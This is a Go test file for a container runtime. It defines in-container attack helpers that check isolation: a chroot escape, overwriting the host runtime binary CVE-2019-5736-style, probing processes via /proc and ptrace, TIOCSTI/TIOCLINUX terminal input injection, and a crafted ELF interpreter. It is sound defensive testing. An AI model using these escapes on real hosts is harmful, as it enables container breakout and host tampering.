package tests

import (
	"bytes"
	"debug/elf"
	encoding "encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/rogpeppe/go-internal/testscript"
	"golang.org/x/sys/unix"
)

// attacks are what a script's payload, or another process on the host, does to a container runtime. Each prints what it
// got as "GOT ..." and what it had to work with as "SAW ...": an attack that saw nothing proves nothing.
var attacks = map[string]func(args []string) error{
	"blink":       blink,
	"burrow":      burrow,
	"configs":     configsHelper,
	"connect":     connect,
	"descriptors": descriptors,
	"displace":    displace,
	"groups":      dropGroups,
	"headless":    headless,
	"halt":        halt,
	"interpreted": interpreted,
	"loader":      loader,
	"overwrite":   overwrite,
	"echo":        echo,
	"ask":         ask,
	"peek":        peek,
	"listen":      listenAt,
	"key":         findKey,
	"keyring":     withKey,
	"keepkey":     keepKey,
	"plantring":   plantKeyring,
	"knock":       knock,
	"hop":         hop,
	"look":        look,
	"socket32":    socket32,
	"hunt":        hunt,
	"inspect":     inspect,
	"neighbours":  neighbours,
	"nest":        nest,
	"takeover":    takeover,
	"swap":        swap,
	"type":        typeInto,
	"walkout":     walkOut,
}

// attacker makes this program available inside a container.
func attacker(ts *testscript.TestScript, args []string) error {
	if len(args) != 1 {
		return usageError("attacker FILE")
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	// By another process: one that is forked here meanwhile, for another script, has our files for a moment, and what somebody
	// may write cannot be executed (ETXTBSY, go.dev/issue/22315).
	return tryRun("install", "-m", "755", self, ts.MkAbs(args[0]))
}

// descriptors prints the open files that this process was started with: number and what they are.
func descriptors([]string) error {
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(dir)
	for fd := 0; fd < 1024; fd++ {
		// The Go runtime has files of its own for its poller, close-on-exec as whatever it opens; what came through the
		// exec is not.
		if flags, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err != nil || flags&unix.FD_CLOEXEC != 0 {
			continue
		}
		target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		fmt.Printf("FD %d %s\n", fd, target)
	}
	return nil
}

// walkOut leaves a chroot the classic way, chroot(2): with a working directory that is outside of a second one, upwards. It
// prints where it ends.
func walkOut([]string) error {
	if err := os.MkdirAll("/second", 0o755); err != nil {
		return err
	}
	slash, err := unix.Open("/", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := errors.Join(unix.Chroot("/second"), unix.Fchdir(slash)); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	names, err := os.ReadDir(".")
	fmt.Println("SAW", names)
	return err
}

// until calls try until the time is over, it says that it is done, or the script does, by a file in the root: how long it
// takes what is attacked depends on the machine.
func until(seconds string, try func() bool) error {
	n, err := strconv.ParseFloat(seconds, 64)
	if err != nil {
		return err
	}
	for end := time.Now().Add(time.Duration(n * float64(time.Second))); time.Now().Before(end); {
		if try() {
			return nil
		}
		if _, err := os.Stat("/stop"); err == nil {
			return nil
		}
	}
	return nil
}

// pids are the processes of this pid namespace but for this one.
func pids() []string {
	names, _ := filepath.Glob("/proc/[0-9]*")
	return slices.DeleteFunc(names, func(n string) bool { return n == "/proc/"+strconv.Itoa(os.Getpid()) })
}

// foreignProgram is what a process runs when that is not of the container's image.
func foreignProgram(proc string) string {
	exe, err := os.Readlink(proc + "/exe")
	if err != nil || strings.HasSuffix(exe, "/bin/busybox") || strings.HasPrefix(exe, "/attack") {
		return ""
	}
	return exe
}

// overwrite SECONDS writes to the program of every process that runs one from outside, CVE-2019-5736's way: a read-only fd
// of it first, which stays when the process has gone, and through that one for writing as soon as nothing runs it.
func overwrite(args []string) error {
	held := map[string]int{}
	err := until(args[0], func() bool {
		for _, proc := range pids() {
			exe := foreignProgram(proc)
			if _, ok := held[exe]; exe == "" || ok || strings.HasPrefix(exe, "/bin/") {
				continue
			}
			if fd, err := unix.Open(proc+"/exe", unix.O_PATH, 0); err == nil {
				held[exe] = fd
				fmt.Println("SAW", exe)
			}
		}
		for exe, fd := range held {
			// Without O_TRUNC: the file is written only where it can be, and then it is over.
			w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY, 0)
			if err != nil {
				continue
			}
			if n, err := unix.Write(w, []byte("#!/bin/sh\necho overwritten\n")); err == nil {
				fmt.Println("GOT", n, "bytes into", exe)
				return true
			}
			unix.Close(w)
		}
		return false
	})
	for exe, fd := range held {
		for _, how := range []func() error{
			func() error { return unix.Fchmodat(unix.AT_FDCWD, "/proc/self/fd/"+strconv.Itoa(fd), 0o777, 0) },
			func() error { return unix.Truncate("/proc/self/fd/"+strconv.Itoa(fd), 0) },
		} {
			if how() == nil && !strings.Contains(exe, "memfd:") { // the mode of a copy that ends with its process is nothing
				fmt.Println("GOT", exe, "itself")
			}
		}
	}
	fmt.Println("DONE")
	return err
}

// peek SECONDS looks into every process that appears, before it has become one of the container's: through its files in
// /proc, and by ptrace(2).
func peek(args []string) error {
	runtime.LockOSThread() // a tracer is a thread
	saw := map[string]bool{}
	err := until(args[0], func() bool {
		for _, proc := range pids() {
			if !saw[proc] {
				saw[proc] = true
				fmt.Println("SAW", proc)
			}
			peekAt(proc)
		}
		return false
	})
	fmt.Println("DONE")
	return err
}

func peekAt(proc string) {
	if exe := foreignProgram(proc); exe != "" {
		fmt.Println("GOT the program", exe, "of", proc)
	}
	list, _ := os.ReadDir(proc + "/fd")
	for _, e := range list {
		n, _ := strconv.Atoi(e.Name())
		if target, err := os.Readlink(proc + "/fd/" + e.Name()); err == nil && n > 2 && foreignProgram(proc) != "" {
			fmt.Println("GOT fd", n, "of", proc, "to", target)
		}
	}
	if root, err := os.Readlink(proc + "/root"); err == nil && root != "/" {
		fmt.Println("GOT the root of", proc)
	}
	pid, _ := strconv.Atoi(filepath.Base(proc))
	if unix.PtraceSeize(pid) != nil {
		return
	}
	if exe := foreignProgram(proc); exe != "" {
		fmt.Println("GOT", proc, "by ptrace, which runs", exe)
	}
	if unix.PtraceInterrupt(pid) == nil {
		_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
	}
	_ = unix.PtraceDetach(pid)
}

// halt SECONDS stops every process that appears in this pid namespace, at once. It is the first in there, which no signal
// of its own stops.
func halt(args []string) error {
	highest, seen := 16, map[int]bool{}
	fmt.Println("BEGINS")
	err := until(args[0], func() bool {
		for pid := 2; pid < highest+16; pid++ {
			if unix.Kill(pid, unix.SIGSTOP) == nil && !seen[pid] {
				seen[pid], highest = true, max(highest, pid)
			}
		}
		return false
	})
	fmt.Println("SAW", len(seen), "threads and processes")
	return err
}

// swap SECONDS A B exchanges two names as fast as it can.
func swap(args []string) error {
	n := 0
	err := until(args[0], func() bool {
		if unix.Renameat2(unix.AT_FDCWD, args[1], unix.AT_FDCWD, args[2], unix.RENAME_EXCHANGE) == nil {
			n++
		}
		return false
	})
	fmt.Println("SAW", n, "exchanges")
	return err
}

// typeInto puts a line into the terminal's input, as if the caller had typed it.
func typeInto(args []string) error {
	for fd := range 3 {
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
			continue
		}
		fmt.Println("SAW a terminal at", fd)
		for _, take := range []int{0, 1} { // 1 steals it, which needs CAP_SYS_ADMIN of the initial user namespace
			if unix.IoctlSetInt(fd, unix.TIOCSCTTY, take) == nil {
				fmt.Println("GOT the caller's terminal as our own")
			}
		}
		for _, c := range []byte("echo injected\n") {
			if typeByte(fd, c) == nil {
				fmt.Println("GOT", strconv.QuoteRune(rune(c)), "into the terminal")
			}
		}
		if pasteSelection(fd) == nil {
			fmt.Println("GOT a selection into the terminal")
		}
		if pgrp, err := unix.IoctlGetInt(fd, unix.TIOCGPGRP); err == nil {
			fmt.Println("GOT the terminal's foreground group", pgrp)
		}
	}
	fmt.Println("DONE")
	return nil
}

// typeByte is TIOCSTI (ioctl_tty(2), CVE-2017-5226): one byte of input that nobody typed. The kernel reads one byte.
func typeByte(fd int, c byte) error { return unix.IoctlSetPointerInt(fd, unix.TIOCSTI, int(c)) }

// pasteSelection is TIOCLINUX (ioctl_console(2), CVE-2023-28100): the same by way of a console's clipboard. What the kernel
// reads for TIOCL_SETSEL is {char 2; short xs, ys, xe, ye, mode}, packed, which a larger structure can carry.
func pasteSelection(fd int) error {
	const linux, set, paste = 0x541c, 2, 3
	if err := unix.IoctlSetTermios(fd, linux, &unix.Termios{Iflag: set | 1<<8 | 1<<24, Oflag: 1<<8 | 1<<24}); err != nil {
		return err
	}
	return unix.IoctlSetPointerInt(fd, linux, paste)
}

// loader tells whether a program asks for a loader or libraries, which an image could bring.
func loader(args []string) error {
	f, err := elf.Open(args[0])
	if err != nil {
		return err
	}
	defer f.Close()
	for _, p := range f.Progs {
		if p.Type == elf.PT_INTERP || p.Type == elf.PT_DYNAMIC {
			fmt.Println("GOT", p.Type, "in", args[0])
		}
	}
	return nil
}

// interpreted FILE PROGRAM writes a program that the kernel runs by loading PROGRAM as its interpreter.
func interpreted(args []string) error {
	const headers = 64 + 2*56
	name := append([]byte(args[1]), 0)
	size := uint64(headers + len(name))
	var b bytes.Buffer
	for _, part := range []any{
		elf.Header64{
			Ident: [16]byte{0x7f, 'E', 'L', 'F', byte(elf.ELFCLASS64), byte(elf.ELFDATA2LSB), byte(elf.EV_CURRENT)},
			Type:  uint16(elf.ET_DYN), Machine: uint16(elf.EM_X86_64), Version: 1, Entry: headers,
			Phoff: 64, Ehsize: 64, Phentsize: 56, Phnum: 2,
		},
		elf.Prog64{Type: uint32(elf.PT_INTERP), Flags: uint32(elf.PF_R), Off: headers, Vaddr: headers, Filesz: uint64(len(name)), Memsz: uint64(len(name))},
		elf.Prog64{Type: uint32(elf.PT_LOAD), Flags: uint32(elf.PF_R | elf.PF_X), Filesz: size, Memsz: size, Align: 4096},
		name,
	} {
		if err := encoding.Write(&b, encoding.LittleEndian, part); err != nil {
			return err
		}
	}
	return os.WriteFile(args[0], b.Bytes(), 0o755)
}

// dropGroups leaves all supplementary groups: a file whose group may do less than the rest would open then.
func dropGroups(args []string) error {
	groups, err := unix.Getgroups()
	if err != nil {
		return err
	}
	fmt.Println("SAW", len(groups), "groups")
	if unix.Setgroups(nil) == nil {
		fmt.Println("GOT rid of them")
	}
	for _, file := range args {
		if data, err := os.ReadFile(file); err == nil {
			fmt.Printf("GOT %q\n", data)
		}
	}
	fmt.Println("DONE")
	return nil
}
